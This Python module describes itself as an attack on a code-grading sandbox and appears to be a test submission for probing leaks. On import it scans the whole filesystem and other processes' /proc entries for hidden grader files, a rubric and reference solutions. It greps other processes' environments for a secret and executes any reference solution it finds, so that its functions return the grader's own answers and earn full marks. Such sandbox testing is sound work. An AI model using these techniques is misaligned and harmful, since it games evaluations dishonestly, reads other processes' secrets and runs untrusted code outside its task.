"""Attack: read the hidden grader, the reference solution and the grader's secrets from disk.

At import (within a time budget) it walks the visible filesystem -- the usual homes of a course
first, then everything -- for ``test_toy.py``, ``rubric.toml``, ``fixture_cases.py``,
``public.safetensors``, ``results.jsonl``, ``grader.log`` and any ``solutions/``, ``graders/``
or ``toy_course/`` folder; follows every ``/proc/*/cwd`` and ``/proc/*/root``; reads every
``/proc/*/cmdline`` for paths to look beside (for the grader's ``config.json`` too); and greps
every ``/proc/*/environ`` and its own environment for secrets. If it finds the reference
solution it executes it and answers with it (full marks if the sandbox leaks). It prints one
``LEAK`` line per hidden thing it found. Otherwise the maths is wrong: zeros.
"""

import os
import time
from pathlib import Path

import torch

WANTED = {"test_toy.py", "rubric.toml", "fixture_cases.py", "public.safetensors",
          "results.jsonl", "grader.log"}
SECRET_KEY = "TORCHGRADE_ATTACK_SECRET"
LEAKS: list[str] = []
REF: dict = {}


def _leak(what: str) -> None:
    if len(LEAKS) < 40:
        LEAKS.append(what[:300])


def _consider(path: Path) -> None:
    name = path.name
    if name in WANTED:
        _leak(f"file {path}")
    if name == "toy.py" and path.parent.parent.name == "solutions" and not REF:
        try:
            code = path.read_text()
            scope: dict = {}
            exec(compile(code, str(path), "exec"), scope)
            REF.update(scope)
            _leak(f"reference solution executed from {path}")
        except Exception as exc:  # noqa: BLE001
            _leak(f"reference solution at {path} unreadable: {exc}")
    if name in ("solutions", "graders", "toy_course"):
        _leak(f"dir {path}")


def _walk(top: str, budget_s: float, max_depth: int = 99) -> int:
    """Look at everything under ``top``; returns how many directories were listed."""
    stop = time.monotonic() + budget_s
    skip = {"/proc", "/sys", "/dev", "site-packages", "__pycache__"} if max_depth < 99 else {
        "/proc", "/sys", "/dev"}
    listed = 0
    for root, dirs, files in os.walk(top, onerror=lambda e: None):
        listed += 1
        if time.monotonic() > stop:
            return listed
        depth = root.rstrip("/").count("/") - top.rstrip("/").count("/")
        dirs[:] = [d for d in dirs if d not in skip and os.path.join(root, d) not in skip
                   and depth < max_depth]
        for d in dirs:
            if d in ("solutions", "graders", "toy_course"):
                _consider(Path(root, d))
        for f in files:
            if f in WANTED or f == "toy.py":
                _consider(Path(root, f))
    return listed


def _procs() -> None:
    me = os.getpid()
    for key, value in os.environ.items():
        if SECRET_KEY in key or SECRET_KEY in value:
            _leak(f"own environ {key}={value}")
    for proc in Path("/proc").glob("[0-9]*"):
        if int(proc.name) == me:
            continue
        for link in ("cwd", "root"):
            try:
                target = Path(os.readlink(proc / link))
                for entry in target.iterdir():
                    _consider(entry)
            except OSError:
                pass
        try:
            env = (proc / "environ").read_bytes()
            for item in env.split(b"\0"):
                if SECRET_KEY.encode() in item:
                    _leak(f"environ of {proc.name}: {item.decode(errors='replace')}")
        except OSError:
            pass
        try:
            for arg in (proc / "cmdline").read_bytes().split(b"\0"):
                p = Path(arg.decode(errors="ignore"))
                if p.is_absolute() and p.exists():
                    for up in (p, *p.parents):
                        for cand in (up / "graders", up / "solutions", up / "config.json",
                                     up / "results.jsonl"):
                            if cand.exists():
                                _consider(cand)
        except OSError:
            pass


_procs()
# Where a course usually lives first (shallow), then everything visible.
LISTED = sum(_walk(top, 3.0, max_depth=5) for top in
             ("/work", "/home", "/root", "/srv", "/opt", "/mnt", "/tmp", "/var", "/data"))
LISTED += _walk("/", 12.0)
for line in LEAKS:
    print(f"LEAK {line}")
print(f"read_hidden_files: listed {LISTED} directories, {len(LEAKS)} leaks")


def scale(x, s):
    if "scale" in REF:
        return REF["scale"](x, s)
    return torch.zeros_like(x)


def total(x):
    if "total" in REF:
        return REF["total"](x)
    return torch.zeros((), requires_grad=True)
